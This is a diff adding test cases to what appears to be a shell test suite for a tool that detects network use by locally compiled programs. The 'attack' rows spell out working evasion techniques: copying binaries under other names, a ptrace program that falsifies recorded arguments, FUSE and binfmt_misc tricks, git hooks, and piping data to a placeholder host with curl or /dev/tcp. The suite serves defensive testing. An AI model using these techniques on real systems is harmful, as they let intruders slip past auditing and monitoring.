@@ -261,7 +261,7 @@ chmod +x x
 ./x
 EOF
 
-row sed-i attack user 'A permission that no audited call gives' 'changed in place by sed -i (a new file, ACL copied)' <<'EOF'
+row sed-i attack user - 'changed in place by sed -i (a new file, ACL copied)' <<'EOF'
 gcc -o beacon beacon.c
 sed -i s/beacon/beaten/ beacon
 ./beacon
@@ -356,6 +356,161 @@ as_user mnt/beacon
 umount mnt
 EOF
 
+row symlink-copy attack user - 'cp of a symbolic link to it' <<'EOF'
+gcc -o beacon beacon.c
+ln -s beacon s
+cp s x
+rm beacon
+./x
+EOF
+
+row linked-directory attack user 'Copying by another name' 'cp by way of a symbolic link to its directory' <<'EOF'
+gcc -o beacon beacon.c
+ln -s . d
+cp d/beacon x
+./x
+EOF
+
+row bind-copy attack user 'Copying by another name' 'cp from a directory that is bind-mounted elsewhere' <<'EOF'
+gcc -o beacon beacon.c
+mkdir m
+unshare -rm bash -c 'mount --bind . m && cp m/beacon x'
+./x
+EOF
+
+row fd-copy attack user 'Copying by another name' 'cp of a descriptor of it, its name removed before' <<'EOF'
+gcc -o beacon beacon.c
+exec 7<beacon
+rm beacon
+cp /proc/self/fd/7 x
+./x
+EOF
+
+row argv-rewritten attack user 'Rewriting arguments' 'cp under a tracer that has other arguments recorded' <<'EOF'
+gcc -o beacon beacon.c
+cat >t.c <<'C'
+#include <fcntl.h>
+#include <stdio.h>
+#include <string.h>
+#include <sys/ptrace.h>
+#include <sys/wait.h>
+#include <unistd.h>
+/* "cp beacon x" is on the new stack when the call has not returned yet: what
+   stands there then is recorded, and what stands there later is done. */
+int main(void)
+{
+	pid_t child = fork();
+	char path[64], stack[1 << 16], *at;
+	unsigned long start = 0, end = 0;
+	int status, fd;
+	FILE *stat;
+
+	if (!child) {
+		ptrace(PTRACE_TRACEME, 0, 0, 0);
+		raise(19);
+		execl("/bin/cp", "cp", "beacon", "x", NULL);
+	}
+	waitpid(child, &status, 0);
+	ptrace(PTRACE_SETOPTIONS, child, 0, PTRACE_O_TRACEEXEC);
+	ptrace(PTRACE_CONT, child, 0, 0);
+	waitpid(child, &status, 0);
+	snprintf(path, sizeof(path), "/proc/%d/stat", child);
+	stat = fopen(path, "r");
+	for (int i = 1; i < 48; i++)
+		fscanf(stat, "%*s");
+	fscanf(stat, "%lu %lu", &start, &end);
+	snprintf(path, sizeof(path), "/proc/%d/mem", child);
+	fd = open(path, O_RDWR);
+	if (pread(fd, stack, end - start, start) < 1)
+		return 77;
+	at = memmem(stack, end - start, "beacon", 6);
+	pwrite(fd, "nobody", 6, start + (at - stack));
+	ptrace(PTRACE_SYSCALL, child, 0, 0);
+	waitpid(child, &status, 0);
+	pwrite(fd, "beacon", 6, start + (at - stack));
+	ptrace(PTRACE_DETACH, child, 0, 0);
+	waitpid(child, &status, 0);
+	return 0;
+}
+C
+gcc -D_GNU_SOURCE -w -o t t.c
+./t
+./x
+EOF
+
+row proc-cwd attack user - 'cp by way of /proc/self/cwd' <<'EOF'
+gcc -o beacon beacon.c
+cp /proc/self/cwd/beacon x
+./x
+EOF
+
+row proc-exe attack user - 'cp of /proc/PID/exe while it runs, its name removed before' <<'EOF'
+gcc -o beacon beacon.c
+./beacon stay &
+sleep 0.5
+rm beacon
+cp /proc/$!/exe x
+./x
+EOF
+
+row tar-C attack user - 'tar -C: packed by a name that is relative to another directory' <<'EOF'
+mkdir d e
+gcc -o d/beacon beacon.c
+tar -C d -cf - beacon | tar -C e -xf -
+rm -r d
+e/beacon
+EOF
+
+row tar-dir attack user - 'tar of the directory it is in' <<'EOF'
+mkdir d e
+gcc -o d/beacon beacon.c
+tar cf a.tar d
+rm -r d
+tar xf a.tar -C e
+e/d/beacon
+EOF
+
+row zip-dir attack user - 'zip of the directory it is in' <<'EOF'
+need zip unzip
+mkdir d
+gcc -o d/beacon beacon.c
+zip -qr a.zip d
+rm -r d
+unzip -q a.zip
+d/beacon
+EOF
+
+row dpkg-deb attack user 'Copying by a program of one' 'packed by dpkg-deb, unpacked by it' <<'EOF'
+need dpkg-deb
+mkdir -p p/DEBIAN
+printf 'Package: evader\nVersion: 1\nArchitecture: all\nMaintainer: x <x@x>\nDescription: x\n' >p/DEBIAN/control
+gcc -o p/beacon beacon.c
+dpkg-deb -b p p.deb >/dev/null
+rm -r p
+dpkg-deb -x p.deb d
+d/beacon
+EOF
+
+row subshell-cat attack user 'Copying by a program of one' 'cat by one shell, chmod by another' <<'EOF'
+gcc -o beacon beacon.c
+sh -c 'cat beacon; :' >x
+sh -c 'chmod +x x; :'
+./x
+EOF
+
+row substituted attack user - 'cat of what another cat gives (process substitution)' <<'EOF'
+gcc -o beacon beacon.c
+cat <(cat beacon) >x
+chmod +x x
+./x
+EOF
+
+row install-pipe attack user - 'install from a pipe that cat fills' <<'EOF'
+gcc -o beacon beacon.c
+cat beacon | install -m 755 /dev/stdin x
+./x
+EOF
+
 row remounted attack root - 'linked in a mounted image, which is mounted as another device' <<'EOF'
 need mke2fs losetup
 truncate -s 8M image other
@@ -390,11 +545,34 @@ python3 s.py
 ./beacon
 EOF
 
-row setfacl attack user 'A permission that no audited call gives' 'linked without the permission, given by an ACL' <<'EOF'
+row setfacl attack user - 'linked without the permission, given by an ACL' <<'EOF'
 need setfacl
 umask 0111
 gcc -o beacon beacon.c
 setfacl -m u::rwx beacon
+./beacon
+EOF
+
+row setxattrat attack user - 'the same by setxattrat (Linux 6.13), which has its arguments in memory' <<'EOF'
+umask 0111
+cat >a.c <<'C'
+#define _GNU_SOURCE
+#include <fcntl.h>
+#include <stdint.h>
+#include <unistd.h>
+#include <sys/syscall.h>
+int main(void)
+{
+	struct { uint32_t version; struct { uint16_t tag, perm; uint32_t id; } e[3]; } acl =
+		{ 2, { { 1, 7, -1 }, { 4, 5, -1 }, { 32, 5, -1 } } };
+	struct { uint64_t value; uint32_t size, flags; } args = { (uintptr_t)&acl, sizeof(acl), 0 };
+	return syscall(463, AT_FDCWD, "beacon", 0, "system.posix_acl_access", &args, sizeof(args)) != 0;
+}
+C
+gcc -o a a.c
+chmod 755 a
+gcc -o beacon beacon.c
+./a || exit 77
 ./beacon
 EOF
 
@@ -428,7 +606,7 @@ python3 s.py
 ./x
 EOF
 
-row mknod attack user 'A permission that no audited call gives' 'mknod with the permission, then written' <<'EOF'
+row mknod attack user 'Copying by a program of one' 'mknod with the permission, then written' <<'EOF'
 need python3
 gcc -o beacon beacon.c
 cat >s.py <<'P'
@@ -496,7 +674,7 @@ tcc -B"$(dirname "$(find /usr/lib /usr/local/lib -name libtcc1.a | head -n 1)")"
 ./beacon
 EOF
 
-row tcc-run attack user 'A program that is no file' 'tcc -run' <<'EOF'
+row tcc-run attack user - 'tcc -run' <<'EOF'
 need tcc
 tcc -B"$(dirname "$(find /usr/lib /usr/local/lib -name libtcc1.a | head -n 1)")" -lpthread -run beacon.c
 EOF
@@ -739,6 +917,25 @@ P
 python3 s.py
 EOF
 
+row stdout-output attack user - 'linked to the standard output of gcc' <<'EOF'
+gcc -o /dev/stdout beacon.c >x
+chmod +x x
+./x
+EOF
+
+row lli attack user - 'compiled to bitcode, run by lli' <<'EOF'
+need clang lli
+clang -emit-llvm -c -o b.bc beacon.c
+lli b.bc
+EOF
+
+row gcc-plugin attack user 'A program that is no file' 'loaded by the compiler as a plugin' <<'EOF'
+gcc -shared -fPIC -DLOADED -o lib.so beacon.c
+echo 'int i;' >i.c
+gcc -fplugin=./lib.so -c i.c 2>/dev/null
+exit 0
+EOF
+
 ### how it is run
 
 row ldso attack user - 'started by ld.so' <<'EOF'
@@ -792,6 +989,69 @@ row gdb-call attack user 'A program that is no file' 'loaded into a sleeping pro
 need gdb
 gcc -shared -fPIC -DLOADED -o lib.so beacon.c
 timeout 20 gdb -batch -ex 'break nanosleep' -ex 'run' -ex "call (void *)dlopen(\"$PWD/lib.so\", 2)" -ex kill --args sleep 5 >/dev/null 2>&1
+EOF
+
+row ldso-preload attack user - 'preloaded into true by an argument of ld.so' <<'EOF'
+gcc -shared -fPIC -DLOADED -o lib.so beacon.c
+"$(ldso)" --preload ./lib.so /bin/true
+EOF
+
+row bash-enable attack user 'A program that is no file' 'loaded by bash as a builtin' <<'EOF'
+gcc -shared -fPIC -DLOADED -o lib.so beacon.c
+enable -f ./lib.so nothing 2>/dev/null
+exit 0
+EOF
+
+row binfmt attack user - 'as the interpreter of a format registered in a user namespace' <<'EOF'
+need python3
+gcc -o beacon beacon.c
+echo MAGICbeacon >tcp
+chmod +x tcp
+unshare -rm bash -c 'mount -t binfmt_misc none /proc/sys/fs/binfmt_misc || exit 77
+echo ":x:M::MAGIC::$PWD/beacon:" >/proc/sys/fs/binfmt_misc/register && python3 -c "import os; os.execv(\"tcp\", [\"tcp\"])"'
+EOF
+
+row fuse attack root 'A permission that no audited call gives' 'in a file system that python serves (FUSE)' <<'EOF'
+need python3
+as_user gcc -static -o beacon beacon.c
+mkdir m
+cat >f.py <<'P'
+import ctypes, os, struct, sys, threading
+data = open("beacon", "rb").read()
+os.unlink("beacon")
+fd = os.open("/dev/fuse", os.O_RDWR)
+libc = ctypes.CDLL(None, use_errno=True)
+if libc.mount(b"x", b"m", b"fuse", 6, b"fd=%d,rootmode=40000,user_id=0,group_id=0,allow_other" % fd):
+    os._exit(77)
+def attr(node):
+    mode, size = (0o40755, 0) if node == 1 else (0o100755, len(data))
+    return struct.pack("<QQQQQQIIIIIIIIII", node, size, 0, 0, 0, 0, 0, 0, 0, mode, 1, 0, 0, 0, 4096, 0)
+def serve():
+    while True:
+        r = os.read(fd, 1 << 20)
+        _, op, unique, node = struct.unpack_from("<IIQQ", r)
+        body, error = b"", 0
+        if op == 26:  # init
+            body = struct.pack("<IIIIHHIIHHI", 7, 31, 65536, 0, 12, 10, 65536, 1, 0, 0, 0) + bytes(28)
+        elif op == 1:  # lookup
+            body = struct.pack("<QQQQII", 2, 0, 1, 1, 0, 0) + attr(2)
+        elif op == 3:  # getattr
+            body = struct.pack("<QII", 1, 0, 0) + attr(node)
+        elif op == 14:  # open
+            body = struct.pack("<QII", 0, 0, 0)
+        elif op == 15:  # read
+            offset, size = struct.unpack_from("<QI", r, 48)
+            body = data[offset:offset + size]
+        elif op in (2, 42):  # forget: no answer
+            continue
+        elif op not in (18, 25):
+            error = -38
+        os.write(fd, struct.pack("<IiQ", 16 + len(body), error, unique) + body)
+threading.Thread(target=serve, daemon=True).start()
+os.spawnvp(os.P_WAIT, "setpriv", ["setpriv", "--reuid=" + sys.argv[1], "--regid=" + sys.argv[1], "--clear-groups", "m/b"])
+os._exit(0)
+P
+unshare -m python3 f.py 47110
 EOF
 
 row memfd-python attack user 'A program that is no file' 'copied to a memfd by python, its file named' <<'EOF'
@@ -933,6 +1193,20 @@ gcc -o beacon beacon.c
 sleep 1
 EOF
 
+row launchers attack user - 'through a terminal of its own, flock, env -i, nice and perl' <<'EOF'
+need script flock perl
+gcc -o beacon beacon.c
+script -qec "flock l env -i nice perl -e 'exec q(./beacon)'" /dev/null >/dev/null
+EOF
+
+row git-hook attack user - 'as a hook of git' <<'EOF'
+need git
+git init -q .
+mkdir -p .git/hooks
+gcc -o .git/hooks/pre-commit beacon.c
+git -c user.name=x -c user.email=x@x commit -q --allow-empty -m x
+EOF
+
 row stopped attack user - 'stopped and continued' <<'EOF'
 gcc -o beacon beacon.c
 bash -c 'kill -STOP $$; exec ./beacon' &
@@ -1001,6 +1275,13 @@ gcc -o beacon beacon.c
 wait
 EOF
 
+row pipe-curl attack user 'Other ways out' 'its output is piped into curl, which sends it' <<'EOF'
+need curl
+gcc -o beacon beacon.c
+./beacon say | curl -s -m 2 -T - "http://$TO:4444/" >/dev/null
+exit 0
+EOF
+
 row shell-function attack user - 'a shell function with the name of a system program' <<'EOF'
 gcc -o beacon beacon.c
 curl() { ./beacon; }
@@ -1025,6 +1306,31 @@ EOF
 row nonblock attack user - 'non-blocking connect' <<'EOF'
 gcc -o beacon beacon.c
 ./beacon nonblock
+EOF
+
+row late-rebuilt attack user - 'a connect that is not answered; meanwhile its file is removed, linked anew and run' <<'EOF'
+need python3
+cat >s.py <<'P'
+import socket, sys, time
+s = socket.socket()
+s.bind((sys.argv[1], 4446))
+s.listen(0)
+c = [socket.socket() for _ in range(4)]
+for x in c:
+    x.setblocking(False)
+    x.connect_ex((sys.argv[1], 4446))
+time.sleep(6)
+P
+python3 s.py "$TO" &
+gcc -o beacon beacon.c
+echo 'int main(void) { return 0; }' >t.c
+sleep 1
+./beacon late &
+sleep 0.5
+rm beacon
+gcc -o beacon t.c
+./beacon
+wait
 EOF
 
 row refused attack user - 'a connect that is refused' <<'EOF'
@@ -1067,14 +1373,29 @@ gcc -o beacon beacon.c
 ./beacon sqpoll
 EOF
 
+row uring-async attack user - 'io_uring, carried out by its workers (IOSQE_ASYNC)' <<'EOF'
+gcc -o beacon beacon.c
+./beacon uring-async
+EOF
+
+row uring-sendmsg attack user - 'UDP sendmsg by io_uring' <<'EOF'
+gcc -o beacon beacon.c
+./beacon uring-sendmsg
+EOF
+
 row sendto attack user 'Other ways out' 'UDP sendto' <<'EOF'
 gcc -o beacon beacon.c
 ./beacon sendto
 EOF
 
-row fastopen attack user 'Other ways out' 'TCP fast open: no connect' <<'EOF'
+row fastopen attack user - 'TCP fast open: no connect' <<'EOF'
 gcc -o beacon beacon.c
 ./beacon fastopen
+EOF
+
+row fastopen-sendmsg attack user - 'the same by sendmsg' <<'EOF'
+gcc -o beacon beacon.c
+./beacon fastopen-sendmsg
 EOF
 
 row loopback attack user 'Other ways out' 'connects to a forwarder on loopback' <<'EOF'
@@ -1152,6 +1473,49 @@ gcc -o beacon beacon.c
 tar cf a.tar -C /bin bash
 tar xf a.tar
 ./bash -c "exec 3<>/dev/tcp/$TO/4444"
+EOF
+
+row b-tar-C benign user - 'tar -C of a system program, beside a linked one of another directory' <<'EOF'
+gcc -o beacon beacon.c
+mkdir d
+tar -C /bin -cf - bash | tar -C d -xf -
+d/bash -c "exec 3<>/dev/tcp/$TO/4444"
+EOF
+
+row b-tar-dir benign user - 'tar of a directory of system programs, beside a linked one' <<'EOF'
+gcc -o beacon beacon.c
+mkdir d e
+cp /bin/bash d/
+tar cf a.tar d
+tar xf a.tar -C e
+e/d/bash -c "exec 3<>/dev/tcp/$TO/4444"
+EOF
+
+row b-untar benign user - 'unpacked by tar beside a linked program, of whose name it is' <<'EOF'
+mkdir d
+cp /bin/bash d/beacon
+tar cf a.tar d
+sleep 61
+rm -r d
+gcc -o beacon beacon.c
+tar xf a.tar
+d/beacon -c "exec 3<>/dev/tcp/$TO/4444"
+EOF
+
+row b-proc-exe benign user - 'cp of /proc/PID/exe of a shell, beside a linked one' <<'EOF'
+gcc -o beacon beacon.c
+cp /proc/$$/exe x
+./x -c "exec 3<>/dev/tcp/$TO/4444"
+EOF
+
+row b-acl benign user - 'cp -a of a system program and sed -i of a script, beside a linked one' <<'EOF'
+gcc -o beacon beacon.c
+cp -a /bin/bash x
+./x -c "exec 3<>/dev/tcp/$TO/4444"
+printf '#!/bin/bash\nexec 3<>/dev/tcp/%s/4443\n' "$TO" >s
+chmod +x s
+sed -i s/4443/4444/ s
+./s
 EOF
 
 row b-strip benign user - 'a system program rewritten by strip' <<'EOF'
